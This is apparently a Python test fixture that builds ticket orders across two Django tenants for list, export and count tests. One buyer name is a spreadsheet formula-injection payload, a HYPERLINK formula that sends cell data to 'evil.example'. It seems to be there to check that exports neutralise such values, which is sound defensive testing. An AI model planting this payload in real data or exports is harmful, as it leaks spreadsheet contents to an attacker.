"""Orders to list, export and count: built for alpha's Team and Programme (tests.factories),
and for the twin organization beta, with the same ids where the twins share them.

alpha (marker "ALPHA"):
- ann@example.com "Ann Alpha": at A's box office (cash, paid) 2 × day 1 (attendees "Zed
  ALPHA" and "Amy ALPHA"), then in B's online shop 1 × gala (paid by card);
- the customer account (customer@example.com) in A's online shop: 1 × pass (paid), and a
  second order still awaiting payment;
- "=HYPERLINK(…)" hacker@example.com at A's box office: 1 × day 1 (paid);
- an expired cart of nobody (no e-mail) in A's shop;
- "Bob ALPHA" bob@example.com in B's shop: 1 × gala, paid then refunded as a whole.
beta (marker "BETA"): "Beta Only" beta-only@example.com, 1 × day 1 at A's box office.
"""

from dataclasses import dataclass

from django.utils import timezone
from django_tenants.utils import schema_context

from apps.events import services as events
from apps.sales.models import CheckIn, Order, Ticket
from apps.sales.services.orders import OrderLine, order_create, order_mark_paid
from tests.factories import programme_build, twin_sequences
from tests.tenants import ALPHA, BETA

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click me")'
SALES_TABLES = ("sales_order", "sales_ticket")


@dataclass
class Sales:
    programme: object
    ann_box: Order
    ann_gala: Order
    account_pass: Order
    account_pending: Order
    hacker: Order
    bob_refunded: Order
    beta_order: Order | None = None


def _sell(distribution, lines, *, email, name="", customer=None, method=Order.PaymentMethod.CASH, pay=True):
    order = order_create(
        distribution=distribution,
        lines=lines,
        email=email,
        buyer_name=name,
        customer=customer,
        payment_method=method,
    )
    if pay and order.status == Order.Status.PENDING:
        order = order_mark_paid(order_id=order.pk)
    return order


def sales_build(world) -> Sales:
    """The orders above in alpha and beta (beta's team and programme built too)."""
    twin = world.beta_twin()
    with schema_context(BETA.schema_name):
        beta_programme = programme_build(twin)
        events.event_publish(event=beta_programme.concert)
    twin_sequences(ALPHA.schema_name, BETA.schema_name, tables=SALES_TABLES)
    team = world.team
    with schema_context(ALPHA.schema_name):
        programme = programme_build(team)
        events.event_publish(event=programme.concert)
        day1 = [OrderLine(ticket_type=programme.day1_ticket, quantity=2)]
        ann_box = _sell(team.a_box, day1, email="Ann@Example.com", name="Ann Alpha")
        first, second = ann_box.tickets.order_by("pk")
        Ticket.objects.filter(pk=first.pk).update(attendee_name="Zed ALPHA")
        Ticket.objects.filter(pk=second.pk).update(attendee_name="Amy ALPHA")
        CheckIn.objects.create(ticket=first, event_date=programme.day1)
        gala = [OrderLine(ticket_type=programme.gala_ticket, quantity=1)]
        ann_gala = _sell(
            team.b_shop, gala, email="ann@example.com", name="Ann A.", method=Order.PaymentMethod.STRIPE
        )
        pass_line = [OrderLine(ticket_type=programme.concert_pass, quantity=1)]
        account_pass = _sell(
            team.a_shop, pass_line, email="customer@example.com", customer=team.customer, method="stripe"
        )
        account_pending = _sell(
            team.a_shop,
            pass_line,
            email="customer@example.com",
            customer=team.customer,
            method="stripe",
            pay=False,
        )
        hacker = _sell(
            team.a_box,
            [OrderLine(ticket_type=programme.day1_ticket, quantity=1)],
            email="hacker@example.com",
            name=HYPERLINK,
        )
        cart = order_create(
            distribution=team.a_shop, lines=pass_line, email="", payment_method="stripe", hold=True
        )
        Order.objects.filter(pk=cart.pk).update(status=Order.Status.EXPIRED, expires_at=timezone.now())
        bob_refunded = _sell(team.b_shop, gala, email="bob@example.com", name="Bob ALPHA", method="stripe")
        Order.objects.filter(pk=bob_refunded.pk).update(status=Order.Status.REFUNDED)
        Ticket.objects.filter(order=bob_refunded).update(status=Ticket.Status.REFUNDED)
    with schema_context(BETA.schema_name):
        beta_order = _sell(
            twin.a_box,
            [OrderLine(ticket_type=beta_programme.day1_ticket, quantity=1)],
            email="beta-only@example.com",
            name="Beta Only",
        )
    return Sales(
        programme=programme,
        ann_box=ann_box,
        ann_gala=ann_gala,
        account_pass=account_pass,
        account_pending=account_pending,
        hacker=hacker,
        bob_refunded=bob_refunded,
        beta_order=beta_order,
    )
